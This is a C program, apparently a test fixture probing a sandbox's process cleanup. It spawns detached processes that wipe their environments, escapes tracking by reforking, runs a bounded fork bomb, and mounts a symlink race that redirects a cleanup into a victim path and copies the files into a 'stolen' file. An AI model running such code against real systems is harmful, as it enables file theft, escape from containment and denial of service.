// A program that leaves processes behind: without parents, with sessions of their own, with nothing in their environments.
// Its input says what they do: `exchange VICTIM`, `hop MICROSECONDS` or `bomb COUNT`.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

#define COUNT 500
static char names[COUNT][16];

// Nothing lives longer than this, whoever fails to end it.
#define MOST 20

static void hide(void) {
    setsid();
    pid_t child = fork();
    if (child) _exit(child < 0);
    for (char **at = environ; *at; at++) memset(*at, 0, strlen(*at));
    close(0); close(1); close(2);
    alarm(MOST);
}

// Returns 0 if the child has left a process behind.
static int wait_for(pid_t child) {
    int status;
    waitpid(child, &status, 0);
    return status;
}

// Copies what was moved from the victim to where the program reads.
static void steal(const char *out) {
    DIR *top = opendir(".");
    if (!top) _exit(0);
    for (struct dirent *entry; (entry = readdir(top));) {
        if (strncmp(entry->d_name, ".lifted", 7)) continue;
        DIR *lifted = opendir(entry->d_name);
        if (!lifted) continue;
        for (struct dirent *file; (file = readdir(lifted));) {
            char bytes[200];
            int from = openat(dirfd(lifted), file->d_name, O_RDONLY | O_NOFOLLOW);
            int count = from < 0 ? -1 : read(from, bytes, sizeof bytes);
            int to = count > 0 ? open(out, O_WRONLY | O_CREAT | O_APPEND, 0666) : -1;
            if (to >= 0) { write(to, bytes, count); close(to); }
            if (from >= 0) close(from);
        }
        closedir(lifted);
    }
    closedir(top);
}

static void exchange(const char *victim, const char *out) {
    struct stat found;
    int count = 0;
    if (chdir(getenv("TMPDIR"))) _exit(3);
    for (int at = 0; at < COUNT; at++) {
        char name[16];
        snprintf(name, sizeof name, "d%05d", at);
        mkdir(name, 0700);
    }
    DIR *top = opendir(".");
    for (struct dirent *entry; (entry = readdir(top));)
        if (entry->d_name[0] == 'd') strcpy(names[count++], entry->d_name);
    closedir(top);
    pid_t child = fork();
    if (child) {
        wait_for(child);
        usleep(10000);
        return;
    }
    hide();
    time_t begin = time(0);
    // Until the directory is being removed.
    while (lstat(names[0], &found) == 0)
        if (time(0) > begin + MOST) _exit(1);
    for (int at = 100; at < count; at++)
        if (rmdir(names[at]) == 0) symlink(victim, names[at]);
    for (int round = 0; round < 3000; round++) steal(out);
    pause();
}

static void hop(int pause) {
    pid_t child = fork();
    if (child) {
        wait_for(child);
        usleep(100000);
        return;
    }
    hide();
    time_t begin = time(0);
    while (time(0) < begin + MOST) {
        if (fork()) _exit(0);
        if (pause) usleep(pause);
    }
    _exit(0);
}

static void bomb(int most) {
    int made = 0;
    for (; made < most; made++) {
        pid_t child = fork();
        if (child < 0) break;
        if (!child) {
            hide();
            pause();
        }
        if (wait_for(child)) break;
        usleep(500);
    }
    printf("made %d\n", made);
    fflush(stdout);
    sleep(2);
    printf("not ended\n");
}

int main(void) {
    char input[4096] = {0}, what[16], word[3000], out[4200];
    read(0, input, sizeof input - 1);
    if (sscanf(input, "%15s %2999s", what, word) != 2) return 2;
    snprintf(out, sizeof out, "%s/stolen", getenv("SKILL_WORKSPACE"));
    if (!strcmp(what, "exchange")) exchange(word, out);
    if (!strcmp(what, "hop")) hop(atoi(word));
    if (!strcmp(what, "bomb")) bomb(atoi(word));
    return 0;
}
